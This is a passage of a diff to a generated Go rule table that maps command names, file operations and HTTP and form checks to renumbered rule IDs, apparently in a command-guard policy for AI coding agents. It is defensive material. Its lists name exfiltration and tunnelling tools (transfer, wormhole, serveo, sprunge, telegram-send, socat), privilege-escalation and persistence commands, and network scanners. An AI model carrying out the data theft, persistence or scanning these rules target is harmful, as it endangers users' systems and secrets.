+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "runas",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "rundll32",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "rundll32.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "runhaskell",
@@ -15795,7 +15860,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "runuser",
 				Program: 64,
-				Rules:   []uint16{333},
+				Rules:   []uint16{336},
 			},
 			nameEntry{
 				Name:    "rush",
@@ -15821,7 +15886,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rustscan",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "rustup",
@@ -15834,12 +15899,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "s3cmd",
 				Program: 61,
-				Rules:   []uint16{141, 142, 298, 308},
+				Rules:   []uint16{141, 142, 301, 311},
 			},
 			nameEntry{
 				Name:    "s5cmd",
 				Program: 61,
-				Rules:   []uint16{141, 142, 298, 308},
+				Rules:   []uint16{141, 142, 301, 311},
 			},
 			nameEntry{
 				Name:    "salt",
@@ -15883,12 +15948,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sc",
 				Program: 64,
-				Rules:   []uint16{331, 342, 379},
+				Rules:   []uint16{334, 345, 382},
 			},
 			nameEntry{
 				Name:    "sc.exe",
 				Program: -1,
-				Rules:   []uint16{379, 380},
+				Rules:   []uint16{382, 383},
 			},
 			nameEntry{
 				Name:    "scala",
@@ -15914,12 +15979,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "schtasks",
 				Program: 64,
-				Rules:   []uint16{330, 380},
+				Rules:   []uint16{333, 383},
 			},
 			nameEntry{
 				Name:    "schtasks.exe",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "scons",
@@ -15928,7 +15993,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scoop",
 				Program: 44,
-				Rules:   []uint16{386},
+				Rules:   []uint16{389},
 			},
 			nameEntry{
 				Name:    "scp",
@@ -15938,12 +16003,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "screen",
 				Program: 63,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "screencapture",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "script",
@@ -15952,7 +16017,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scrot",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "scrub",
@@ -15999,7 +16064,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "security",
 				Program: 64,
-				Rules:   []uint16{25, 363},
+				Rules:   []uint16{25, 366},
 			},
 			nameEntry{
 				Name:    "sed",
@@ -16012,7 +16077,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "semantic-release",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "semgrep",
@@ -16021,12 +16086,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "send",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "sendmail",
 				Program: -1,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "sentry",
@@ -16059,12 +16124,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "serve",
 				Program: 45,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "serveo",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "serverless",
@@ -16074,26 +16139,26 @@ var shipped = Set{
 			nameEntry{
 				Name:    "service",
 				Program: 64,
-				Rules:   []uint16{342, 349, 357},
+				Rules:   []uint16{345, 352, 360},
 			},
 			nameEntry{
 				Name:  "set",
-				Rules: []uint16{221, 398, 400, 402},
+				Rules: []uint16{221, 401, 403, 405},
 			},
 			nameEntry{
 				Name:    "setcap",
 				Program: 64,
-				Rules:   []uint16{336},
+				Rules:   []uint16{339},
 			},
 			nameEntry{
 				Name:    "setenforce",
 				Program: 64,
-				Rules:   []uint16{349},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "setenv",
 				Program: -1,
-				Rules:   []uint16{354, 402},
+				Rules:   []uint16{357, 405},
 			},
 			nameEntry{
 				Name:    "setfacl",
@@ -16115,7 +16180,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sftp",
 				Program: 56,
-				Rules:   []uint16{309},
+				Rules:   []uint16{312},
 			},
 			nameEntry{
 				Name:    "sg",
@@ -16138,7 +16203,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sh",
 				Program: 4,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "sha1sum",
@@ -16190,7 +16255,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "shopt",
-				Rules: []uint16{401},
+				Rules: []uint16{404},
 			},
 			nameEntry{
 				Name:    "shred",
@@ -16204,7 +16269,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "shutdown",
 				Program: 64,
-				Rules:   []uint16{346, 347},
+				Rules:   []uint16{349, 350},
 			},
 			nameEntry{
 				Name:    "sift",
@@ -16235,17 +16300,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "skill",
 				Program: 63,
-				Rules:   []uint16{339, 341, 375, 395, 397},
+				Rules:   []uint16{342, 344, 378, 398, 400},
 			},
 			nameEntry{
 				Name:    "skopeo",
 				Program: 62,
-				Rules:   []uint16{39, 305, 306},
+				Rules:   []uint16{39, 308, 309},
 			},
 			nameEntry{
 				Name:    "sl",
 				Program: 50,
-				Rules:   []uint16{275, 276},
+				Rules:   []uint16{278, 279},
 			},
 			nameEntry{
 				Name:    "slack",
@@ -16255,7 +16320,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "slackcat",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name: "sleep",
@@ -16276,12 +16341,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "snap",
 				Program: 44,
-				Rules:   []uint16{314, 362},
+				Rules:   []uint16{317, 365},
 			},
 			nameEntry{
 				Name:    "snapcraft",
 				Program: 32,
-				Rules:   []uint16{303, 304},
+				Rules:   []uint16{306, 307},
 			},
 			nameEntry{
 				Name:    "snapper",
@@ -16303,7 +16368,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "socat",
 				Program: 55,
-				Rules:   []uint16{124, 290},
+				Rules:   []uint16{124, 293},
 			},
 			nameEntry{
 				Name:    "softwareupdate",
@@ -16341,7 +16406,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "spctl",
 				Program: 64,
-				Rules:   []uint16{348, 385},
+				Rules:   []uint16{351, 388},
 			},
 			nameEntry{
 				Name:    "specstory",
@@ -16370,7 +16435,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sprunge",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "sqitch",
@@ -16415,7 +16480,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sqlmap",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "sqlpackage",
@@ -16449,7 +16514,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ssh",
 				Program: 56,
-				Rules:   []uint16{301, 310, 344},
+				Rules:   []uint16{304, 313, 347},
 			},
 			nameEntry{
 				Name:    "ssh-add",
@@ -16462,7 +16527,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ssh-copy-id",
 				Program: 56,
-				Rules:   []uint16{364},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "ssh-keygen",
@@ -16525,7 +16590,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stop-computer",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name:    "storybook",
@@ -16538,7 +16603,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "strace",
 				Program: 63,
-				Rules:   []uint16{397},
+				Rules:   []uint16{400},
 			},
 			nameEntry{
 				Name:    "strapi",
@@ -16557,12 +16622,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stress",
 				Program: -1,
-				Rules:   []uint16{356},
+				Rules:   []uint16{359},
 			},
 			nameEntry{
 				Name:    "stress-ng",
 				Program: -1,
-				Rules:   []uint16{356},
+				Rules:   []uint16{359},
 			},
 			nameEntry{
 				Name:    "strings",
@@ -16597,7 +16662,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "su",
 				Program: 64,
-				Rules:   []uint16{333},
+				Rules:   []uint16{336},
 			},
 			nameEntry{
 				Name:    "subl",
@@ -16606,7 +16671,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sudo",
 				Program: 64,
-				Rules:   []uint16{334, 335},
+				Rules:   []uint16{337, 338},
 			},
 			nameEntry{
 				Name:    "sudoedit",
@@ -16629,7 +16694,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "supervisorctl",
 				Program: 63,
-				Rules:   []uint16{17, 331, 357, 378},
+				Rules:   []uint16{17, 334, 360, 381},
 			},
 			nameEntry{
 				Name:    "surge",
@@ -16652,7 +16717,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "svn",
 				Program: 50,
-				Rules:   []uint16{275},
+				Rules:   []uint16{278},
 			},
 			nameEntry{
 				Name:    "sw_vers",
@@ -16665,17 +16730,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "swaks",
 				Program: -1,
-				Rules:   []uint16{43, 299, 308},
+				Rules:   []uint16{43, 302, 311},
 			},
 			nameEntry{
 				Name:    "swapoff",
 				Program: 64,
-				Rules:   []uint16{351, 352},
+				Rules:   []uint16{354, 355},
 			},
 			nameEntry{
 				Name:    "swapon",
 				Program: 64,
-				Rules:   []uint16{351},
+				Rules:   []uint16{354},
 			},
 			nameEntry{
 				Name:    "swc",
@@ -16720,12 +16785,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sysadminctl",
 				Program: -1,
-				Rules:   []uint16{337, 385},
+				Rules:   []uint16{340, 388},
 			},
 			nameEntry{
 				Name:    "sysctl",
 				Program: 64,
-				Rules:   []uint16{350, 351},
+				Rules:   []uint16{353, 354},
 			},
 			nameEntry{
 				Name:    "system_profiler",
@@ -16734,17 +16799,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "systemctl",
 				Program: 64,
-				Rules:   []uint16{17, 331, 342, 346, 349, 351, 357, 397},
+				Rules:   []uint16{17, 334, 345, 349, 352, 354, 360, 400},
 			},
 			nameEntry{
 				Name:    "systemd-run",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "systemsetup",
 				Program: -1,
-				Rules:   []uint16{371, 385},
+				Rules:   []uint16{374, 388},
 			},
 			nameEntry{
 				Name:    "tac",
@@ -16757,7 +16822,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tailscale",
 				Program: 55,
-				Rules:   []uint16{18, 39, 300},
+				Rules:   []uint16{18, 39, 303},
 			},
 			nameEntry{
 				Name:    "tailwindcss",
@@ -16793,7 +16858,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tar",
 				Program: 24,
-				Rules:   []uint16{41, 239, 325},
+				Rules:   []uint16{41, 239, 328},
 			},
 			nameEntry{
 				Name:    "tarsnap",
@@ -16813,12 +16878,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "taskkill",
 				Program: 63,
-				Rules:   []uint16{342, 345, 375, 376, 397},
+				Rules:   []uint16{345, 348, 378, 379, 400},
 			},
 			nameEntry{
 				Name:    "taskkill.exe",
 				Program: -1,
-				Rules:   []uint16{375, 376},
+				Rules:   []uint16{378, 379},
 			},
 			nameEntry{
 				Name:    "tasklist",
@@ -16831,7 +16896,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tc",
 				Program: -1,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "tccli",
@@ -16841,17 +16906,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tccutil",
 				Program: -1,
-				Rules:   []uint16{385},
+				Rules:   []uint16{388},
 			},
 			nameEntry{
 				Name:    "tcpdump",
 				Program: 55,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "tcsh",
 				Program: -1,
-				Rules:   []uint16{365, 366},
+				Rules:   []uint16{368, 369},
 			},
 			nameEntry{
 				Name:    "tea",
@@ -16869,12 +16934,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telebit",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "telegram-send",
 				Program: -1,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "teleport",
@@ -16883,7 +16948,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telinit",
 				Program: 64,
-				Rules:   []uint16{346},
+				Rules:   []uint16{349},
 			},
 			nameEntry{
 				Name:    "teller",
@@ -16903,7 +16968,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "termux-clipboard-get",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "terraform",
@@ -16950,7 +17015,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tftp",
 				Program: 56,
-				Rules:   []uint16{308, 309},
+				Rules:   []uint16{311, 312},
 			},
 			nameEntry{
 				Name:    "thor",
@@ -16976,7 +17041,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "timedatectl",
 				Program: 64,
-				Rules:   []uint16{351, 371, 372},
+				Rules:   []uint16{354, 374, 375},
 			},
 			nameEntry{
 				Name:    "timeout",
@@ -16998,7 +17063,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tmux",
 				Program: 63,
-				Rules:   []uint16{393, 394},
+				Rules:   []uint16{396, 397},
 			},
 			nameEntry{
 				Name:    "tofu",
@@ -17043,21 +17108,21 @@ var shipped = Set{
 			nameEntry{
 				Name:    "trae-cli",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "transfer",
 				Program: 56,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "transferwee",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:  "trap",
-				Rules: []uint16{400},
+				Rules: []uint16{403},
 			},
 			nameEntry{
 				Name:    "trash",
@@ -17070,7 +17135,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tree",
 				Program: 7,
-				Rules:   []uint16{343},
+				Rules:   []uint16{346},
 			},
 			nameEntry{
 				Name:    "trino",
@@ -17099,7 +17164,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "trust",
 				Program: -1,
-				Rules:   []uint16{363, 383},
+				Rules:   []uint16{366, 386},
 			},
 			nameEntry{
 				Name:    "ts-node",
@@ -17116,12 +17181,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tshark",
 				Program: 55,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "tskill",
 				Program: -1,
-				Rules:   []uint16{376},
+				Rules:   []uint16{379},
 			},
 			nameEntry{
 				Name:    "tslint",
@@ -17173,7 +17238,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "twine",
 				Program: -1,
-				Rules:   []uint16{40, 303},
+				Rules:   []uint16{40, 306},
 			},
 			nameEntry{
 				Name:    "ty",
@@ -17189,7 +17254,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "typeset",
-				Rules: []uint16{402},
+				Rules: []uint16{405},
 			},
 			nameEntry{
 				Name:    "typos",
@@ -17202,7 +17267,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ufw",
 				Program: 64,
-				Rules:   []uint16{349},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "ugrep",
@@ -17217,7 +17282,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "umount",
 				Program: 64,
-				Rules:   []uint16{351, 352},
+				Rules:   []uint16{354, 355},
 			},
 			nameEntry{
 				Name:    "umzug",
@@ -17269,7 +17334,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "unset",
-				Rules: []uint16{221, 398, 402},
+				Rules: []uint16{221, 401, 405},
 			},
 			nameEntry{
 				Name:    "unshare",
@@ -17282,7 +17347,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "unzip",
 				Program: 24,
-				Rules:   []uint16{325},
+				Rules:   []uint16{328},
 			},
 			nameEntry{
 				Name:    "unzstd",
@@ -17296,32 +17361,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "update-alternatives",
 				Program: 64,
-				Rules:   []uint16{351},
+				Rules:   []uint16{354},
 			},
 			nameEntry{
 				Name:    "update-ca-certificates",
 				Program: -1,
-				Rules:   []uint16{363, 383},
+				Rules:   []uint16{366, 386},
 			},
 			nameEntry{
 				Name:    "update-ca-trust",
 				Program: -1,
-				Rules:   []uint16{363, 383},
+				Rules:   []uint16{366, 386},
 			},
 			nameEntry{
 				Name:    "update-grub",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "update-initramfs",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "update-rc.d",
 				Program: 64,
-				Rules:   []uint16{331},
+				Rules:   []uint16{334},
 			},
 			nameEntry{
 				Name:    "updatedb",
@@ -17344,17 +17409,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "useradd",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "userdel",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "usermod",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "users",
@@ -17371,7 +17436,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "uv",
 				Program: 42,
-				Rules:   []uint16{303, 314, 315},
+				Rules:   []uint16{306, 317, 318},
 			},
 			nameEntry{
 				Name:    "uvicorn",
@@ -17380,7 +17445,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "uvx",
 				Program: 40,
-				Rules:   []uint16{314, 318},
+				Rules:   []uint16{317, 321},
 			},
 			nameEntry{
 				Name:    "v",
@@ -17470,7 +17535,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vgchange",
 				Program: -1,
-				Rules:   []uint16{352},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "vgreduce",
@@ -17506,7 +17571,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vipw",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "virsh",
@@ -17520,7 +17585,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "visudo",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "vite",
@@ -17554,7 +17619,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vsce",
 				Program: -1,
-				Rules:   []uint16{303, 304},
+				Rules:   []uint16{306, 307},
 			},
 			nameEntry{
 				Name:    "vssadmin",
@@ -17688,7 +17753,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "webfsd",
 				Program: -1,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "webpack",
@@ -17706,12 +17771,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wevtutil",
 				Program: -1,
-				Rules:   []uint16{220, 379},
+				Rules:   []uint16{220, 382},
 			},
 			nameEntry{
 				Name:    "wezterm",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "wg",
@@ -17725,7 +17790,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wget",
 				Program: 53,
-				Rules:   []uint16{310},
+				Rules:   []uint16{313},
 			},
 			nameEntry{
 				Name:    "wget2",
@@ -17734,7 +17799,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wgetpaste",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name: "whereis",
@@ -17762,12 +17827,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "windsurf",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "winget",
 				Program: 44,
-				Rules:   []uint16{362, 386},
+				Rules:   []uint16{365, 389},
 			},
 			nameEntry{
 				Name:    "wipe",
@@ -17794,7 +17859,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wl-paste",
 				Program: 64,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "wmic",
@@ -17813,7 +17878,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wormhole",
 				Program: 56,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "wp",
@@ -17823,7 +17888,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wrangler",
 				Program: 61,
-				Rules:   []uint16{18, 30, 40, 132, 156, 159, 298, 308},
+				Rules:   []uint16{18, 30, 40, 132, 156, 159, 301, 311},
 			},
 			nameEntry{
 				Name:    "wrk",
@@ -17837,12 +17902,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wscript",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "wscript.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "wsl",
@@ -17856,7 +17921,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wtype",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "xargs",
@@ -17879,12 +17944,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xbps-remove",
 				Program: -1,
-				Rules:   []uint16{386},
+				Rules:   []uint16{389},
 			},
 			nameEntry{
 				Name:    "xclip",
 				Program: 64,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "xcodebuild",
@@ -17901,7 +17966,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xdotool",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "xe",
@@ -17915,7 +17980,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xh",
 				Program: 54,
-				Rules:   []uint16{310},
+				Rules:   []uint16{313},
 			},
 			nameEntry{
 				Name:    "xhs",
@@ -17948,7 +18013,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xsel",
 				Program: 64,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "xsv",
@@ -17982,7 +18047,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yarn",
 				Program: 39,
-				Rules:   []uint16{31, 102, 103, 104, 105, 106, 107, 109, 110, 113, 131, 158, 159, 303, 304, 314, 315, 324},
+				Rules:   []uint16{31, 102, 103, 104, 105, 106, 107, 109, 110, 113, 131, 158, 159, 306, 307, 317, 318, 327},
 			},
 			nameEntry{
 				Name:    "yarn-typeorm",
@@ -18004,7 +18069,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ydotool",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name: "yes",
@@ -18028,7 +18093,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yum",
 				Program: 44,
-				Rules:   []uint16{362},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "zappa",
@@ -18051,7 +18116,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zellij",
 				Program: 63,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "zfs",
@@ -18091,7 +18156,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zmap",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "zpool",
@@ -18101,12 +18166,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zrok",
 				Program: -1,
-				Rules:   []uint16{300},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "zsh",
 				Program: 4,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "zstd",
@@ -18115,7 +18180,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zypper",
 				Program: 44,
-				Rules:   []uint16{362, 386},
+				Rules:   []uint16{365, 389},
 			},
 		},
 		Globs: []nameEntry{nameEntry{
@@ -18219,7 +18284,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "onionshare*",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "prisma@*",
@@ -18275,27 +18340,27 @@ var shipped = Set{
 		},
 		File: []opEntry{opEntry{
 			Op:    "read",
-			Rules: []uint16{7, 8, 9, 10, 13, 53, 122, 291},
+			Rules: []uint16{7, 8, 9, 10, 13, 53, 122, 294},
 		},
 			opEntry{
 				Op:    "write",
-				Rules: []uint16{217, 219, 223, 236, 247, 292, 326, 327, 328, 329, 373, 374, 381, 388, 390},
+				Rules: []uint16{217, 219, 223, 236, 247, 295, 329, 330, 331, 332, 376, 377, 384, 391, 393},
 			},
 			opEntry{
 				Op:    "append",
-				Rules: []uint16{217, 219, 223, 236, 247, 292, 326, 327, 328, 329, 373, 374, 381, 388, 390},
+				Rules: []uint16{217, 219, 223, 236, 247, 295, 329, 330, 331, 332, 376, 377, 384, 391, 393},
 			},
 			opEntry{
 				Op:    "truncate",
-				Rules: []uint16{101, 201, 202, 204, 206, 209, 216, 217, 218, 219, 222, 223, 228, 247, 328, 373, 374, 388, 390, 404},
+				Rules: []uint16{101, 201, 202, 204, 206, 209, 216, 217, 218, 219, 222, 223, 228, 247, 331, 376, 377, 391, 393, 407},
 			},
 			opEntry{
 				Op:    "delete",
-				Rules: []uint16{101, 201, 202, 203, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 214, 215, 216, 217, 218, 219, 222, 223, 247, 328, 374, 388, 390, 404},
+				Rules: []uint16{101, 201, 202, 203, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 214, 215, 216, 217, 218, 219, 222, 223, 247, 331, 377, 391, 393, 407},
 			},
 			opEntry{
 				Op:    "move",
-				Rules: []uint16{11, 42, 203, 204, 205, 206, 216, 217, 218, 219, 222, 247, 326, 327, 328, 329, 374, 388, 390, 404},
+				Rules: []uint16{11, 42, 203, 204, 205, 206, 216, 217, 218, 219, 222, 247, 329, 330, 331, 332, 377, 391, 393, 407},
 			},
 			opEntry{
 				Op:    "copy",
@@ -18307,26 +18372,26 @@ var shipped = Set{
 			},
 			opEntry{
 				Op:    "send",
-				Rules: []uint16{285, 286, 287, 307},
+				Rules: []uint16{288, 289, 290, 310},
 			},
 			opEntry{
 				Op:    "chmod",
-				Rules: []uint16{231, 234, 390, 403},
+				Rules: []uint16{231, 234, 393, 406},
 			},
 			opEntry{
 				Op: "list",
 			},
 			opEntry{
 				Op:    "run",
-				Rules: []uint16{316},
+				Rules: []uint16{319},
 			},
 		},
-		HTTP:    []uint16{33, 34, 35, 36, 38, 54, 55, 56, 57, 58, 59, 60, 61, 64, 65, 66, 67, 72, 73, 74, 75, 78, 79, 80, 288, 289, 297, 312, 313},
+		HTTP:    []uint16{33, 34, 35, 36, 38, 54, 55, 56, 57, 58, 59, 60, 61, 64, 65, 66, 67, 72, 73, 74, 75, 78, 79, 80, 291, 292, 300, 315, 316},
 		GraphQL: []uint16{37, 68, 69, 70, 71},
 		SQL:     []uint16{81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 94},
 		Search:  []uint16{0, 1, 2, 3, 4, 5},
 		Env:     []uint16{14, 16},
-		Form:    []uint16{358, 359, 360, 361},
+		Form:    []uint16{361, 362, 363, 364},
 		Paths: []pathIndex{pathIndex{
 			Named: []namedGlob{namedGlob{
 				Name: ".aider.conf.yml",
